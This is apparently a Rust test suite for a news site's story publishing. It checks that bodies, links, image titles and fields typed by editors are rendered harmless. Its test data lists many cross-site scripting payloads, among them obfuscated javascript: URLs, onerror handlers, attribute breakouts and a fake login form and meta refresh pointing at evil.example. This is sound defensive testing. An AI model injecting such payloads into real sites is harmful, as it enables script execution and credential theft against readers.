//! What people type as a body never runs, loads or imitates anything in a reader's browser.

use super::harmless::assert_harmless;
use crate::support::{Answer, TestSite};

/// Publishes a body through the form and opens its article.
async fn published(body: &str) -> Answer {
    let site = TestSite::new();
    site.picture("sea");
    let typed =
        [("without_alt", "yes"), ("headline", "Hostile"), ("category", "1"), ("body", body), ("action", "publish")];
    site.as_editor()
        .submit("/admin/stories/new?lang=en", &typed)
        .await
        .assert_leads(303, "/admin/stories/1/en?done=published");
    let page = site.get("/en/society/hostile").await;
    page.assert_status(200);
    page
}

#[actix_web::test]
async fn markup_that_would_run_is_shown_as_text() {
    for body in [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<body onload=alert(1)>\n</body></html><script>alert(1)</script>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<style>body{display:none}</style>",
        "</div></article></main><script>alert(1)</script>",
        "<form action=//evil.example><input name=password><button>Log in</button></form>",
        "<base href=//evil.example/><meta http-equiv=refresh content=0;//evil.example>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<details open ontoggle=alert(1)>",
        "<!--><script>alert(1)</script>-->",
        "`</code><script>alert(1)</script>`",
        "```\n</pre><script>alert(1)</script>\n```",
        "```\"><img src=x onerror=alert(1)>\ntext\n```",
    ] {
        assert_harmless(&published(body).await, body);
    }
}

#[actix_web::test]
async fn links_lead_only_where_a_link_may() {
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "java\u{9}script:alert(1)",
        "&#x6A&#x61&#x76&#x61script:alert(1)",
        " javascript:alert(1)",
        "&Tab;javascript:alert(1)",
        "&#1;javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "file:///etc/passwd",
        "blob:https://news.example/x",
        "x:y",
    ] {
        let body = [
            format!("[text]({address})"),
            format!("[text](<{address}>)"),
            format!("<{address}>"),
            format!("![text]({address})"),
            format!("[text][1]\n\n[1]: {address}"),
            format!("[![text]({address})]({address})"),
        ]
        .join("\n\n");

        let page = published(&body).await;

        assert_harmless(&page, &body);
    }
}

#[actix_web::test]
async fn addresses_and_titles_cannot_break_out_of_their_attribute() {
    for body in [
        "[x](https://a.example/\"onmouseover=alert(1))",
        "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
        "![x\" onerror=\"alert(1)](media:1)",
        "![x](media:1 \"cap\"></figure><script>alert(1)</script>\")",
        "![x](media:1 '<script>alert(1)</script>')",
        "![x](media:1 '</div><img src=\"x\" onerror=\"alert(1)\">')\n![y](media:1 '</div></figure><script>alert(1)</script>')",
        "https://youtu.be/abc-_DEF123\"onload=alert(1)",
        "https://www.youtube.com/watch?v=\"><script>alert(1)</script>",
    ] {
        let page = published(body).await;
        assert_harmless(&page, body);
    }
}

#[actix_web::test]
async fn readers_contact_no_third_party_for_pictures_or_videos() {
    let body = "![far](https://tracker.example/pixel.png)\n\n![near](//tracker.example/pixel.png)\n\n\
        ![svg](data:image/svg+xml,<svg/onload=alert(1)>)\n\n![up](/static/../admin/logout)\n\n![file](/static/icon.svg)\n\n\
        ![own](media:1)\n\nhttps://tracker.example/film.mp4\n\nhttps://youtu.be/abc-_DEF123";

    let page = published(body).await;

    assert_harmless(&page, body);
    let sources = page.attributes(".body :is(img, video)", "src");
    assert!(sources.len() == 1 && sources[0].starts_with("/media/"), "{sources:?}");
    assert_eq!(page.attributes(".body .player", "href"), ["https://www.youtube.com/watch?v=abc-_DEF123"]);
    assert!(page.attributes(".body a", "rel").iter().all(|rel| rel == "noopener noreferrer"));
    assert_eq!(page.attribute(".body a", "href"), "https://tracker.example/pixel.png");
}

#[actix_web::test]
async fn headings_of_a_body_begin_below_the_headline() {
    let page = published("# One\n\n## Two\n\n### Three\n\n###### Six\n\nOne\n===").await;

    assert_eq!(page.texts("h1"), ["Hostile"]);
    assert_eq!(page.texts(".body h2"), ["One", "Two", "One"]);
    assert_eq!(page.texts(".body :is(h3, h4, h5, h6)"), ["Three", "Six"]);
}

#[actix_web::test]
async fn whatever_field_markup_is_typed_into_it_is_text_on_every_page() {
    let site = TestSite::new();
    let markup = "<img src=x onerror=alert(1)>\"'&";
    let fields = [
        ("headline", markup),
        ("slug", "marked"),
        ("summary", markup),
        ("author", markup),
        ("tags", markup),
        ("category", "1"),
        ("action", "publish"),
    ];
    site.as_editor().submit("/admin/stories/new?lang=en", &fields).await.assert_status(303);
    let page = site.get("/en/society/marked").await;
    let author = page.attribute("a[rel=author]", "href");
    let tag = page.attribute("a[rel=tag]", "href");

    let pages =
        ["/en/", "/en/society/", "/en/society/marked", "/en/news/", "/en/search?q=img", "/en/nothing/", &author, &tag];
    for path in pages {
        let page = site.get(path).await;
        assert!(!page.has("[onerror]") && !page.has("img"), "{path}");
        assert!(page.texts(":is(main, [data-latest]) :is(a, h1)").contains(&markup.to_owned()), "{path}");
    }
    assert_eq!(page.text("h1"), markup);
    assert_eq!(page.attribute("meta[name=description]", "content"), markup);
}
